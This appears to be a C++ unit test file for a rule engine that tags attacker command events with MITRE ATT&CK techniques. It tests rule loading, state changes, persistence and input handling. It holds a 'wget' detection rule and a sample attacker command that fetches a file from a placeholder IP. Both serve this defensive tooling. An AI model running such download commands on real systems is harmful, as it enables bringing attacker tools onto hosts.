#include <rulehost/host.hpp>

#include "support/temporary_directory.hpp"
#include "support/virtual_loop.hpp"

#include <boost/asio/co_spawn.hpp>

#include <fstream>
#include <string>
#include <vector>

using namespace rulehost;
namespace asio = boost::asio;

namespace {

constexpr auto rule = R"(rule_id: R1
name: a rule
applies_to: [command]
match: {pattern: wget}
emits: [{technique_id: T1105, tactic: TA0011, confidence: 0.9}]
)";

class collecting_sink final : public tag_sink {
public:
    asio::awaitable<void> write(std::vector<tag> const& tags) override {
        collected.insert(collected.end(), tags.begin(), tags.end());
        co_return;
    }
    std::vector<tag> collected;
};

event command(std::string id, std::string text = "wget http://192.0.2.1/x") {
    event result;
    result.source_kind = "command";
    result.source_id = std::move(id);
    result.attacker_uuid = "a";
    result.payload["command_text"] = std::move(text);
    return result;
}

struct hosting : test::virtual_loop {
    hosting() {
        directory.write("rules/R1.yaml", rule);
        options.rules = directory / "rules";
        options.printed = &printed;
        options.log = [this](log_level, std::string const& line) { told.push_back(line); };
    }

    ~hosting() {
        if (!subject)
            return;
        subject->stop();
        wait();
        BOOST_TEST(!running);
    }

    void start() {
        subject = std::make_unique<host>(loop.get_executor(), loop.get_executor(), time, options);
        running = true;
        asio::co_spawn(loop, subject->run(), [this](std::exception_ptr e) {
            problem = e;
            running = false;
        });
        wait();
    }

    void wait() { time.advance(std::chrono::seconds{10}); }

    static std::string line(std::string const& id) {
        return R"({"source_kind":"command","source_id":")" + id
            + R"(","attacker_uuid":"a","payload":{"command_text":"wget x"}})" + "\n";
    }

    test::temporary_directory directory;
    host_options options;
    collecting_sink printed;
    std::unique_ptr<host> subject;
    std::vector<std::string> told;
    bool running = false;
    std::exception_ptr problem;
};

} // namespace

BOOST_FIXTURE_TEST_SUITE(hosts, hosting)

BOOST_AUTO_TEST_CASE(event_of_the_embedder_is_evaluated_stored_and_told) {
    start();
    BOOST_TEST(subject->ready());
    auto heard = subject->subscribe("ttp.>");
    auto const tags = run(subject->evaluate(command("c1"))).value();
    BOOST_REQUIRE_EQUAL(tags.size(), 1u);
    BOOST_TEST(tags[0].technique_id == "T1105");
    BOOST_TEST(printed.collected.size() == 1u);
    BOOST_TEST(run(heard.next())->topic == "ttp.tagged");
    BOOST_TEST(run(heard.next())->topic == "ttp.rule.fired.T1105");
}

BOOST_AUTO_TEST_CASE(event_that_is_refused_says_why) {
    start();
    auto anonymous = command("c1");
    anonymous.attacker_uuid.clear();
    auto const answer = run(subject->evaluate(anonymous));
    BOOST_TEST((answer.error() == refusal::no_anchor));
    BOOST_CHECK_THROW(answer.value(), std::invalid_argument);
}

BOOST_AUTO_TEST_CASE(socket_does_not_take_lines_that_have_no_id) {
    socket_input lines;
    lines.path = directory / "socket";
    lines.format = event_format::text;
    options.inputs.emplace_back(lines);
    BOOST_CHECK_THROW(host(loop.get_executor(), loop.get_executor(), time, options), std::invalid_argument);
}

BOOST_AUTO_TEST_CASE(host_ends_when_its_inputs_have_ended) {
    directory.write("one", line("c1") + line("c2"));
    directory.write("two", line("c3"));
    for (auto const* const name : {"one", "two"}) {
        file_input input;
        input.path = (directory / name).string();
        input.at_end = file_input::end::stop;
        options.inputs.emplace_back(input);
    }
    start();
    BOOST_TEST(!running);
    BOOST_TEST(!problem);
    BOOST_TEST(printed.collected.size() == 3u);
    BOOST_TEST(subject->statistics().inputs.at(1).events == 1u);
    subject.reset();
}

BOOST_AUTO_TEST_CASE(database_keeps_tags_states_and_how_far_files_were_read) {
    options.store = "sqlite:" + (directory / "host.db").string();
    file_input input;
    input.path = (directory / "log").string();
    options.inputs.emplace_back(input);
    directory.write("log", line("c1") + line("c2"));
    start();
    BOOST_TEST(printed.collected.size() == 2u);
    rule_state off;
    off.status = rule_status::disabled;
    run(subject->set_state("R1", off, "ops"));
    subject->stop();
    wait();
    BOOST_TEST(!running);

    std::ofstream(directory / "log", std::ios::app) << line("c3");
    start();
    auto counts = subject->statistics();
    BOOST_TEST(counts.inputs.at(0).lines == 1u);
    BOOST_TEST(counts.inputs.at(0).suppressed == 1u);
    run(subject->clear_state("R1", "ops"));
    wait();
    std::ofstream(directory / "log", std::ios::app) << line("c4");
    wait();
    BOOST_TEST(printed.collected.size() == 3u);
    BOOST_TEST(run(subject->evaluate(command("c1"))).value().size() == 1u);
    BOOST_TEST(printed.collected.size() == 3u);
    BOOST_TEST(subject->statistics().known_tags == 1u);
}

BOOST_AUTO_TEST_CASE(rule_change_is_live_and_told) {
    start();
    auto heard = subject->subscribe("ttp.rule.*.R1");
    rule_state clipped;
    clipped.status = rule_status::clipped;
    clipped.confidence_max = 0.5;
    run(subject->set_state("R1", clipped, "ops"));
    time.settle();
    BOOST_TEST(run(heard.next())->topic == "ttp.rule.state.R1");
    BOOST_TEST(run(subject->evaluate(command("c1"))).value().at(0).confidence == 0.5);
    directory.remove("rules/R1.yaml");
    subject->rescan();
    time.settle();
    BOOST_TEST(run(heard.next())->topic == "ttp.rule.reloaded.R1");
    BOOST_TEST(run(subject->evaluate(command("c2"))).value().empty());
}

BOOST_AUTO_TEST_CASE(evaluation_that_waits_for_a_host_that_ends_is_told) {
    start();
    subject->stop();
    wait();
    BOOST_CHECK_THROW(run(subject->evaluate(command("c1"))), boost::system::system_error);
}

BOOST_AUTO_TEST_CASE(absent_input_fails_the_run) {
    file_input input;
    input.path = (directory / "absent").string();
    input.at_end = file_input::end::stop;
    options.inputs.emplace_back(input);
    start();
    BOOST_TEST(!running);
    BOOST_TEST(bool(problem));
}

BOOST_AUTO_TEST_CASE(options_that_cannot_be_are_refused) {
    auto const make = [this] { host(loop.get_executor(), loop.get_executor(), time, options); };
    options.inputs.resize(2);
    BOOST_CHECK_THROW(make(), std::invalid_argument);
    options.inputs.clear();
    options.worker = std::string(65, 'w');
    BOOST_CHECK_THROW(make(), std::invalid_argument);
    options.worker.clear();
    options.rules.clear();
    BOOST_CHECK_THROW(make(), std::invalid_argument);
}

BOOST_AUTO_TEST_SUITE_END()
